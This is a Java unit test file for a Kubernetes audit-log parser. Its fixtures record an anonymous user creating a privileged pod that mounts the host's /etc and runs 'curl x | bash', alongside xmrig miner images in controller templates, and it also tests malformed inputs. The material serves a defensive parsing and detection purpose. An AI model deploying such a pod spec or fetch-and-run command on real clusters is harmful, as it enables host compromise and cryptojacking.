package io.firedamp.ingest.kubernetes;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.firedamp.ingest.MalformedEventException;
import io.firedamp.ingest.Parsed;
import io.firedamp.ingest.ParsedEvent;
import io.firedamp.ingest.Provenance;
import io.firedamp.ingest.RecordReader;
import io.firedamp.ingest.json.JsonRecords;
import io.firedamp.schemas.SharedData;
import io.firedamp.schemas.avro.AuditEvent;
import io.firedamp.schemas.avro.ContainerState;
import io.firedamp.schemas.avro.DeadLetter;
import io.firedamp.schemas.avro.RunState;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class KubernetesAuditParserTest {
  private static final Provenance FROM = new Provenance("prod", "audit");
  private static final String CREATED =
      """
      {"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"a-1",
       "stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/pods","verb":"create",
       "user":{"username":"system:anonymous","groups":["system:unauthenticated"]},
       "sourceIPs":["198.51.100.66"],"userAgent":"curl/7.64",
       "objectRef":{"resource":"pods","namespace":"shop","apiVersion":"v1"},
       "responseStatus":{"code":201},
       "requestObject":{"kind":"Pod","metadata":{"generateName":"web-"},"spec":{"hostNetwork":false,
         "containers":[{"name":"mysql","image":"docker123321/mysql","command":["bash","-c"],
         "args":["curl x | bash"],"env":[{"name":"A","value":"b"}],"securityContext":{"privileged":true}}],
         "volumes":[{"name":"etc","hostPath":{"path":"/etc"}}]}},
       "responseObject":{"kind":"Pod","metadata":{"name":"web-x2x7q","namespace":"shop","uid":"u-1",
         "creationTimestamp":"2018-03-16T10:00:00Z","labels":{"pod-template-hash":"6c7d9f5b8"},
         "ownerReferences":[{"kind":"ReplicaSet","name":"web-6c7d9f5b8","uid":"rs","controller":true}]},
         "spec":{"containers":[{"name":"mysql","image":"docker123321/mysql"}]}},
       "requestReceivedTimestamp":"2018-03-16T10:00:00.100000Z",
       "stageTimestamp":"2018-03-16T10:00:00.200000Z",
       "annotations":{"authorization.k8s.io/decision":"allow"}}""";
  private static final String STATUS =
      """
      {"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"a-2",
       "stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/pods/web-x2x7q/status",
       "verb":"patch","user":{"username":"system:node:n1"},"sourceIPs":["192.0.2.11"],
       "objectRef":{"resource":"pods","namespace":"shop","name":"web-x2x7q","subresource":"status"},
       "responseStatus":{"code":200},
       "requestObject":{"metadata":{"uid":"u-1"},"status":{"podIP":"10.0.0.7","hostIP":"192.0.2.11",
         "containerStatuses":[{"name":"mysql","image":"docker123321/mysql:latest",
         "imageID":"docker-pullable://docker123321/mysql@sha256:DIGEST","containerID":"docker://c0ffee",
         "state":{"running":{"startedAt":"2018-03-16T10:00:20Z"}}}]}},
       "requestReceivedTimestamp":"2018-03-16T10:00:21Z","stageTimestamp":"2018-03-16T10:00:21Z"}"""
          .replace("DIGEST", "ab".repeat(32));

  private final KubernetesAuditParser parser = new KubernetesAuditParser();

  @Test
  void readsWhoAskedForWhat() throws Exception {
    AuditEvent event = Parsed.of(AuditEvent.class, parse(CREATED)).get(0);

    assertThat(event.getAuditId()).isEqualTo("a-1");
    assertThat(event.getUser()).isEqualTo("system:anonymous");
    assertThat(event.getGroups()).containsExactly("system:unauthenticated");
    assertThat(event.getSourceAddresses()).containsExactly("198.51.100.66");
    assertThat(event.getDecision()).contains("allow");
    assertThat(event.getResponseCode()).contains(201);
    assertThat(event.getTime()).isEqualTo(Instant.parse("2018-03-16T10:00:00.100Z"));
  }

  @Test
  void takesNameUidAndOwnersOfAControllersPodFromTheResponse() throws Exception {
    String made = CREATED.replace("system:anonymous", "system:kube-controller-manager");
    AuditEvent event = Parsed.of(AuditEvent.class, parse(made)).get(0);

    assertThat(event.getName()).contains("web-x2x7q");
    assertThat(event.getUid()).contains("u-1");
    assertThat(event.getOwners())
        .singleElement()
        .satisfies(owner -> assertThat(owner.getName()).isEqualTo("web-6c7d9f5b8"));
  }

  @Test
  void takesAnEmptyUidForNone() throws Exception {
    List<ContainerState> states =
        Parsed.of(ContainerState.class, parse(STATUS.replace("\"u-1\"", "\"\"")));

    assertThat(states).isNotEmpty();
    assertThat(states).allSatisfy(state -> assertThat(state.getPodUid()).isEmpty());
  }

  @Test
  void readsThePodTemplateThatWasAskedFor() throws Exception {
    var spec = Parsed.of(AuditEvent.class, parse(CREATED)).get(0).getSpec().orElseThrow();

    assertThat(spec.getHostPaths()).containsExactly("/etc");
    assertThat(spec.getContainers())
        .singleElement()
        .satisfies(
            container -> {
              assertThat(container.getImage()).isEqualTo("docker.io/docker123321/mysql:latest");
              assertThat(container.getCommand()).containsExactly("bash", "-c");
              assertThat(container.getArgs()).containsExactly("curl x | bash");
              assertThat(container.getEnv()).containsExactly("A=b");
              assertThat(container.getPrivileged()).isTrue();
            });
  }

  @Test
  void findsTheTemplateInsideEveryKindOfController() throws Exception {
    String inner = "{\"containers\":[{\"name\":\"m\",\"image\":\"xmrig/xmrig\"}]}";
    List<String> bodies =
        List.of(
            "{\"kind\":\"Deployment\",\"spec\":{\"replicas\":2,\"template\":{\"spec\":"
                + inner
                + "}}}",
            "{\"kind\":\"DaemonSet\",\"spec\":{\"template\":{\"spec\":" + inner + "}}}",
            "{\"kind\":\"CronJob\",\"spec\":{\"schedule\":\"*/5 * * * *\",\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":"
                + inner
                + "}}}}}");
    for (String body : bodies) {
      String event =
          CREATED.replaceAll(
              "(?s)\"requestObject\":.*?\"responseObject\"",
              "\"requestObject\":"
                  + java.util.regex.Matcher.quoteReplacement(body)
                  + ",\"responseObject\"");

      assertThat(
              Parsed.of(AuditEvent.class, parse(event))
                  .get(0)
                  .getSpec()
                  .orElseThrow()
                  .getContainers())
          .as(body)
          .anySatisfy(
              container -> assertThat(container.getImage()).startsWith("docker.io/xmrig/xmrig"));
    }
  }

  @Test
  void saysWhoRunsWhere() throws Exception {
    List<ContainerState> states = Parsed.of(ContainerState.class, parse(STATUS));

    assertThat(states)
        .anySatisfy(
            state -> {
              assertThat(state.getContainerId()).contains("c0ffee");
              assertThat(state.getState()).isEqualTo(RunState.RUNNING);
              assertThat(state.getPodUid()).contains("u-1");
              assertThat(state.getImageDigest()).contains("sha256:" + "ab".repeat(32));
            })
        .anySatisfy(state -> assertThat(state.getAddresses()).contains("10.0.0.7"));
  }

  @Test
  void givesOneEventForTheStagesOfOneRequest() throws Exception {
    RecordReader reader = parser.readerFor(FROM);
    List<ParsedEvent> events = new ArrayList<>();
    for (String stage : List.of("RequestReceived", "ResponseStarted", "ResponseComplete")) {
      events.addAll(reader.read(bytes(CREATED.replace("\"ResponseComplete\"", '"' + stage + '"'))));
    }
    events.addAll(reader.finish());

    assertThat(Parsed.of(AuditEvent.class, events)).hasSize(1);
    assertThat(reader.counts().leftOut().values().stream().mapToLong(Long::longValue).sum())
        .isEqualTo(2);
  }

  @Test
  void givesTheLonelyRequestAtTheEnd() throws Exception {
    RecordReader reader = parser.readerFor(FROM);

    List<ParsedEvent> events =
        new ArrayList<>(
            reader.read(bytes(CREATED.replace("\"ResponseComplete\"", "\"RequestReceived\""))));
    events.addAll(reader.finish());

    assertThat(Parsed.of(AuditEvent.class, events)).hasSize(1);
  }

  @Test
  void keepsTheGoodItemsOfABatchAndMakesALetterOfTheBad() throws Exception {
    List<ParsedEvent> events =
        parse(
            "{\"kind\":\"EventList\",\"apiVersion\":\"audit.k8s.io/v1\",\"items\":["
                + CREATED
                + ",{\"level\":\"Metadata\"}]}");

    assertThat(Parsed.of(AuditEvent.class, events)).hasSize(1);
    assertThat(events.stream().filter(event -> event.value() instanceof DeadLetter)).hasSize(1);
  }

  @Test
  void namesThePlaceAndTheValueOfWhatIsWrong() {
    assertThatThrownBy(() -> parse(CREATED.replace("\"a-1\"", "7")))
        .isInstanceOf(MalformedEventException.class)
        .hasMessageContaining("auditID");
  }

  @Test
  void answersHostileBytesWithOneKindOfException() {
    List<byte[]> hostile =
        List.of(
            bytes("{\"kind\":\"Event\""),
            bytes("[".repeat(100_000)),
            bytes("{\"kind\":\"Event\",\"x\":" + "[".repeat(100_000)),
            new byte[] {(byte) 0xff, (byte) 0xfe, 0x00},
            bytes("{\"kind\":\"Event\",\"auditID\":" + "9".repeat(100_000) + "}"));
    for (byte[] record : hostile) {
      assertThatThrownBy(() -> parser.parse(record, FROM))
          .isInstanceOf(MalformedEventException.class);
    }
  }

  @Test
  void neverThrowsAnythingElseForMutatedBytes() {
    for (long seed = 0; seed < 1_000; seed++) {
      Random random = new Random(seed);
      String original = random.nextBoolean() ? CREATED : STATUS;
      byte[] mutated = bytes(original);
      for (int flips = 1 + random.nextInt(4); flips > 0; flips--) {
        mutated[random.nextInt(mutated.length)] = (byte) random.nextInt(256);
      }
      try {
        parser.parse(mutated, FROM);
      } catch (MalformedEventException expected) {
        assertThat(expected).as("seed %d", seed).hasMessageMatching("(?s).+");
      } catch (RuntimeException unexpected) {
        throw new AssertionError("seed " + seed, unexpected);
      }
    }
  }

  @Test
  void readsAQuietClusterWithEachAuditIdOnce() throws Exception {
    RecordReader reader = parser.readerFor(FROM);
    JsonRecords records = JsonRecords.of(SharedData.bytes("k8s-audit/immudb/k8s.part1.jsonl"));
    List<ParsedEvent> events = new ArrayList<>();
    for (var item = records.next(); item.isPresent(); item = records.next()) {
      events.addAll(reader.read(item.get().bytes()));
    }
    events.addAll(reader.finish());

    List<AuditEvent> audit = Parsed.of(AuditEvent.class, events);
    assertThat(audit).hasSize(890);
    assertThat(audit.stream().map(AuditEvent::getAuditId).collect(Collectors.toSet())).hasSize(890);
    assertThat(reader.counts().leftOut().values().stream().mapToLong(Long::longValue).sum())
        .isEqualTo(892);
  }

  private List<ParsedEvent> parse(String json) throws MalformedEventException {
    return parser.parse(bytes(json), FROM);
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
